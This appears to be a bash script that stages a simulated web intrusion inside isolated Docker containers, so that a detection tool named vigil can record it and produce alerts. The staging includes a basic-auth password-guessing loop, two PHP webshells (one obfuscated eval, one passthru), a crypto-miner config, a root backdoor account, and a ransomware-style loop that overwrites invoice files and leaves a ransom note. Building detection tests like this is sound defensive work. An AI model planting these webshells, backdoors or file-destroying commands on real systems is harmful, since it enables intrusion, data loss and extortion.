#!/usr/bin/env bash
# Captures recordings/demo-web-intrusion.jsonl.gz: vigil recording a real dockerd and a real
# nginx while an intruder brute-forces the host's basic-auth site, then works inside the shop
# container (webshell, miner, backdoor account, config change, ransomware), beside a blog
# container doing ordinary deploys and log rotation. Writes the alerts it replays to.
# Needs root, a running dockerd, nginx, openssl, curl and a built vigil (npm run build).
set -euo pipefail
cd "$(dirname "$0")/.."

image=vigil-demo/shop:1
out=recordings/demo-web-intrusion.jsonl.gz
profile=recordings/demo-web.profile.yaml
names=(demo-shop demo-blog)
work=$(mktemp -d /tmp/vigil-web-demo.XXXXXX)

cleanup() {
  docker rm -f "${names[@]}" >/dev/null 2>&1 || true
  [ -f "$work/nginx.pid" ] && kill "$(cat "$work/nginx.pid")" 2>/dev/null || true
  rm -rf "$work"
}
trap cleanup EXIT
cleanup >/dev/null 2>&1 || true
mkdir -p "$work"

# The shop image: busybox with account files, a web root and its configuration.
if ! docker image inspect "$image" >/dev/null 2>&1; then
  root="$work/image"
  mkdir -p "$root/bin" "$root/etc" "$root/tmp" "$root/var/www/html" "$root/app/config" "$root/data"
  cp /usr/bin/busybox "$root/bin/"
  for a in $(busybox --list); do [ "$a" = busybox ] || ln -s busybox "$root/bin/$a"; done
  printf 'root:x:0:0:root:/root:/bin/sh\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n' > "$root/etc/passwd"
  printf 'root:*:19000:0:99999:7:::\nwww-data:*:19000:0:99999:7:::\n' > "$root/etc/shadow"
  printf 'root:x:0:\nwww-data:x:33:\n' > "$root/etc/group"
  printf '<?php require __DIR__ . "/../app/bootstrap.php"; ?>\n' > "$root/var/www/html/index.php"
  printf 'db: postgres://shop@db/shop\n' > "$root/app/config/app.yaml"
  for i in $(seq 1 24); do printf 'invoice %s: 3 items, 149.00 EUR\n' "$i" > "$root/data/invoice-$i.csv"; done
  tar -C "$root" -c . | docker import -c 'ENV PATH=/bin' - "$image" >/dev/null
fi

# A real nginx with basic auth on 127.0.0.1, logging where the profile says.
port=18088
printf 'admin:%s\n' "$(openssl passwd -apr1 'correct-horse')" > "$work/htpasswd"
mkdir -p "$work/www" && echo ok > "$work/www/index.html"
cat > "$work/nginx.conf" <<EOF
user root;
worker_processes 1;
pid $work/nginx.pid;
error_log $work/nginx-error.log;
events { worker_connections 64; }
http {
  access_log /tmp/vigil-web-demo-access.log combined;
  client_body_temp_path $work/body; proxy_temp_path $work/proxy; fastcgi_temp_path $work/fcgi;
  uwsgi_temp_path $work/uwsgi; scgi_temp_path $work/scgi;
  server {
    listen 127.0.0.1:$port;
    location / { auth_basic "admin"; auth_basic_user_file $work/htpasswd; root $work/www; }
  }
}
EOF
: > /tmp/vigil-web-demo-access.log
nginx -p "$work" -e "$work/nginx-error.log" -c "$work/nginx.conf"

docker run -d --name demo-shop --network none "$image" sleep 300 >/dev/null
docker run -d --name demo-blog --network none "$image" sleep 300 >/dev/null
# Already there when vigil starts: the start-up scan finds it.
docker exec -i demo-shop sh -c 'mkdir -p /var/www/html/uploads && cat > /var/www/html/uploads/.thumb.php' <<'EOF'
<?php $k = 'as'.'sert'; $k(base64_decode($_POST['img'])); ?>
EOF

node bin/vigil.js record "$out" --duration 30 --profile "$profile" &
vigil=$!
sleep 3

# The intruder guesses the admin password of the host's site, and gets it.
for pw in admin 123456 password shop2024 letmein qwerty; do curl -s -o /dev/null -u "admin:$pw" "http://127.0.0.1:$port/"; done
curl -s -o /dev/null -u 'admin:correct-horse' "http://127.0.0.1:$port/"

# Inside the shop: a webshell, a miner with its configuration, a backdoor account, a changed config.
docker exec -i demo-shop sh -c 'cat > /var/www/html/uploads/avatar.php' <<'EOF'
<?php if (isset($_REQUEST['c'])) { echo '<pre>'; passthru($_REQUEST['c']); echo '</pre>'; } ?>
EOF
docker exec -i demo-shop sh -c 'mkdir -p /tmp/.X11-cache && cat > /tmp/.X11-cache/config.json' <<'EOF'
{ "autosave": true, "donate-level": 1, "cpu": { "enabled": true, "max-threads-hint": 75 },
  "pools": [ { "url": "stratum+tcp://pool.example.net:3333", "user": "44AFFq5kSiGBoZ", "pass": "x" } ] }
EOF
docker exec -i demo-shop sh -c 'cat >> /etc/passwd' <<'EOF'
sysadm:x:0:0::/root:/bin/sh
EOF
docker exec demo-shop sh -c 'echo "db: postgres://shop:exfil@203.0.113.50/shop" > /app/config/app.yaml'
sleep 2
# Ransomware: every invoice encrypted in place and renamed, then the note.
docker exec demo-shop sh -c 'for f in /data/*.csv; do head -c 2048 /dev/urandom > "$f" && mv "$f" "$f.crypt"; done; echo "YOUR FILES ARE ENCRYPTED. Send 0.1 BTC to recover them." > /data/HOW_TO_DECRYPT.txt'

# The blog: a framework deploy and a log rotation, which must stay quiet.
docker exec demo-blog sh -c 'mkdir -p /var/www/html/vendor/composer && for i in $(seq 1 30); do printf "<?php\nnamespace App;\nfinal class Page%s { public function title(): string { return \"page %s\"; } }\n" $i $i > /var/www/html/vendor/composer/Page$i.php; done'
docker exec demo-blog sh -c 'mkdir -p /var/log/blog && for n in 1 2 3; do echo "GET /post/$n 200" >> /var/log/blog/access.log; mv /var/log/blog/access.log /var/log/blog/access.log.$n; gzip /var/log/blog/access.log.$n; done'

wait "$vigil"
node bin/vigil.js detect --replay "$out" --profile "$profile" --json > "${out%.jsonl.gz}.alerts.jsonl"
echo "recorded $(zcat "$out" | wc -l) lines; $(wc -l < "${out%.jsonl.gz}.alerts.jsonl") alerts on replay"
